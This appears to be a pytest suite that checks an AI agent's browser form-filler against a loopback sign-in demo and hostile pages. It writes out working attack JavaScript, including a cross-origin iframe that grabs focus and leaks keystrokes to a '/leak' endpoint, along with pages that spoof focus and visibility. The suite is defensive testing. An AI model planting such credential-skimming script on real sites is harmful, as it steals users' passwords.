"""The agent's side of its chromium (guest/browser.py) against Debian's real chromium and the real sign-in
demo site (images/signin-demo/site.py) on loopback: forms found, filled and submitted over the DevTools
pipe, and each hostile page bounded. Chromium runs headless as ``nobody`` (its sandbox on) when the tests
run as root, the pipes made by :func:`guest.launch.spawn_with_pipes` as the broker makes them."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any, Iterator

import pytest

from controller.chromium import profile_tree
from guest.browser import BrowserError, BrowserHost
from guest.cdp import wait_until
from guest.launch import spawn_with_pipes
from wire.browser import FillRequest

ROOT = Path(__file__).resolve().parents[2]
SITE = ROOT / "images" / "signin-demo" / "site.py"
CHROMIUM = "/usr/bin/chromium"
PASSWORD, EMAIL = "sandbox-demo-pass", "person@example.test"

pytestmark = pytest.mark.skipif(not os.access(CHROMIUM, os.X_OK) or not shutil.which("setpriv"),
                                reason="needs Debian's chromium and setpriv")


@pytest.fixture(scope="module")
def site() -> Iterator[dict[str, Any]]:
    proc = subprocess.Popen([sys.executable, str(SITE), '{"http": [0, 0], "bind": "127.0.0.1"}'],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    ready = json.loads(proc.stdout.readline())
    yield {"port": ready["ports"][0], "other": ready["ports"][1], "proc": proc}
    proc.terminate()
    proc.wait(10)


@pytest.fixture()
def host(site: dict[str, Any]) -> Iterator[BrowserHost]:
    # A profile directory nobody can reach (pytest's tmp_path sits under a 0700 directory of root's).
    top = Path(tempfile.mkdtemp(prefix="ds-browser-"))
    prefix = profile_tree(top)
    profile = top / "profile"
    pid, fds = spawn_with_pipes([CHROMIUM, "--headless=new", "--remote-debugging-pipe", f"--user-data-dir={profile}",
                                 "--no-first-run", "--password-store=basic", "about:blank"],
                                {"HOME": str(profile), "PATH": "/usr/bin:/bin"}, prefix)
    browser = BrowserHost()
    browser.take_channel("chromium", pid, *fds)
    yield browser
    browser.close()
    try:
        os.waitpid(pid, 0)
    except ChildProcessError:
        pass
    shutil.rmtree(top, ignore_errors=True)


def goto(host: BrowserHost, url: str) -> Any:
    """Navigate the active tab and wait until its page reports ``url`` (bounded)."""
    pipe = host._channel()
    session = host._active_page(pipe)
    pipe.call("Page.navigate", {"url": url}, session_id=session)

    def there() -> Any:
        try:
            page = host.signin_page()
        except Exception:  # noqa: BLE001 - the page is still loading
            return None
        return page if page.url == url else None
    page = wait_until(there, 15, 0.1)
    assert page is not None, f"the page did not load: {url}"
    return page


def test_the_demo_sign_in_takes_three_requests_and_signs_in(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    page = goto(host, base + "/")
    assert page.origin == base and [o.id for o in page.form.options] == ["email_code", "password"]
    assert host.fill(FillRequest(credential_origin=base, selected_option="password")).outcome == "submitted"
    page = host.signin_page()
    assert [(f.id, f.kind, f.type) for f in page.form.fields] == [("email", "email", "email")]
    assert host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "email", "value": EMAIL}])).navigated
    page = host.signin_page()
    assert [(f.id, f.kind, f.type) for f in page.form.fields] == [("password", "password", "password")]
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert (result.outcome, result.navigated, result.origin) == ("submitted", True, base)
    assert host.signin_page().form is None
    state = host.page_text(base + "/session")
    assert json.loads(state["text"]) == {"signed_in": True, "account": "demo-person", "method": "password"}


def test_a_wrong_origin_gets_nothing_typed(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    goto(host, base + "/hostile/fake-origin")
    result = host.fill(FillRequest(credential_origin="https://bank.example",
                                   fields=[{"field_id": "password", "value": PASSWORD}]))
    assert result.outcome == "origin_changed"


def test_a_page_that_moves_to_another_origin_before_the_fill_gets_nothing(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    page = goto(host, f"{base}/hostile/navigate?to={site['other']}&after_ms=300")
    assert page.origin == base and page.form.fields[0].kind == "password"
    def moved() -> bool:
        try:
            return host.signin_page().origin != base
        except BrowserError:  # asked while the next document replaces this one
            return False
    assert wait_until(moved, 10, 0.1)
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert result.outcome == "origin_changed" and result.origin == f"http://127.0.0.1:{site['other']}"


def test_the_page_text_does_not_decide_the_origin(host: BrowserHost, site: dict[str, Any]) -> None:
    page = goto(host, f"http://127.0.0.1:{site['port']}/hostile/fake-origin")
    assert page.origin == f"http://127.0.0.1:{site['port']}"
    assert "bank.example" not in page.origin


def test_hostile_forms_are_bounded(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    page = goto(host, base + "/hostile/many-fields")
    assert [f.kind for f in page.form.fields] == ["password"]  # 500 text fields are not credentials
    t0 = time.monotonic()
    page = goto(host, base + "/hostile/labels")
    assert time.monotonic() - t0 < 15
    assert all(len(f.label) <= 200 for f in page.form.fields)
    assert any("\x1b" in f.label for f in page.form.fields)  # kept as data: the controller escapes it
    assert goto(host, base + "/hostile/canvas").form is None  # a password box drawn on a canvas is no form


def test_a_field_that_rerenders_while_filled_ends_filled_or_refused(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    goto(host, base + "/hostile/rerender")
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert result.outcome in ("submitted", "field_unstable")
    if result.outcome == "submitted":
        assert json.loads(host.page_text(base + "/session")["text"])  # the site still answers


def test_an_unknown_field_or_option_is_form_changed(host: BrowserHost, site: dict[str, Any]) -> None:
    base = f"http://127.0.0.1:{site['port']}"
    goto(host, base + "/")
    assert host.fill(FillRequest(credential_origin=base, selected_option="nope")).outcome == "form_changed"
    goto(host, base + "/hostile/canvas")
    assert host.fill(FillRequest(credential_origin=base,
                                 fields=[{"field_id": "password", "value": PASSWORD}])).outcome == "no_form"


# -- pages that attack the fill, served on two loopback origins of ours ------------------------------------
ATTACKS = {
    # a frame of another origin that takes the focus again and again and reports what is typed into it
    "/iframe-login": '<h1>Sign in</h1><form action="/done" method="post"><label>Password <input type=password '
                     'id=password name=password></label><button>Sign in</button></form>'
                     '<iframe src="{OTHER}/thief" width=300 height=100></iframe>',
    "/thief": "<input id=x autofocus><script>const x = document.getElementById('x');"
              "x.addEventListener('input', () => new Image().src = '/leak?v=' + encodeURIComponent(x.value));"
              "setInterval(() => { if (document.activeElement !== x || !document.hasFocus()) x.focus(); }, 0);</script>",
    # a failed sign-in that only changes the URL: the document, and the value in it, stay
    "/push-login": '<h1>Sign in</h1><form id=f action="/done"><label>Password <input type=password id=password '
                   'name=password></label><button type=submit>Sign in</button></form><script>'
                   "f.addEventListener('submit', e => { e.preventDefault(); history.pushState({}, '', '/push-login?failed=1'); });"
                   "</script>",
    # the page's own world answers the DOM's questions with 20 MB, or lies about being shown
    "/huge": "<h1>Sign in</h1><form><input type=password id=password></form><script>"
             "const big = 'x'.repeat(20 * 1024 * 1024); Document.prototype.hasFocus = function () { return big; };</script>",
    "/liar": "<h1>Sign in</h1><form><label>Password <input type=password id=password></label></form><script>"
             "Object.defineProperty(Document.prototype, 'visibilityState', {get() { return 'visible'; }});"
             "Document.prototype.hasFocus = () => true;</script>",
}


@pytest.fixture(scope="module")
def attacker() -> Iterator[dict[str, Any]]:
    """Two origins of ours (127.0.0.1 and 127.0.0.2, ephemeral ports) serving :data:`ATTACKS`; ``leaks``
    collects the paths a page reported to."""
    import http.server
    import threading

    state: dict[str, Any] = {"leaks": []}

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *_: Any) -> None:
            pass

        def do_GET(self) -> None:
            path = self.path.split("?")[0]
            if path == "/leak":
                state["leaks"].append(self.path)
            body = ATTACKS.get(path, "<p>done</p>").replace("{OTHER}", state["other"]).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        do_POST = do_GET

    servers = [http.server.ThreadingHTTPServer((host, 0), Handler) for host in ("127.0.0.1", "127.0.0.2")]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    state["base"], state["other"] = (f"http://{s.server_address[0]}:{s.server_address[1]}" for s in servers)
    yield state
    for server in servers:
        server.shutdown()


def test_a_frame_of_another_origin_that_takes_the_focus_gets_nothing(host: BrowserHost, attacker: dict[str, Any]) -> None:
    base = attacker["base"]
    goto(host, base + "/iframe-login")
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert result.outcome == "submitted"
    assert wait_until(lambda: host.signin_page().form is None, 5, 0.1)  # the page moved on: /done
    assert attacker["leaks"] == []


def test_a_failed_sign_in_that_only_changes_the_url_keeps_no_value(host: BrowserHost, attacker: dict[str, Any]) -> None:
    base = attacker["base"]
    goto(host, base + "/push-login")
    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
    assert (result.outcome, result.navigated) == ("submitted", False)
    pipe = host._channel()
    length = pipe.call("Runtime.evaluate", {"expression": "document.getElementById('password').value.length",
                                            "returnByValue": True}, session_id=host._active_page(pipe))
    assert length["result"]["value"] == 0


def test_a_page_cannot_cut_the_agent_off_or_pose_as_the_tab_in_front(host: BrowserHost, attacker: dict[str, Any]) -> None:
    base = attacker["base"]
    goto(host, base + "/huge")
    assert host.signin_page().form is not None and host.status()["running"]
    goto(host, base + "/")
    pipe = host._channel()
    pipe.call("Target.createTarget", {"url": attacker["other"] + "/liar", "background": True})
    assert wait_until(lambda: len([t for t in pipe.call("Target.getTargets")["targetInfos"] if t["type"] == "page"]) == 2, 10, 0.1)
    assert host.signin_page().origin == base
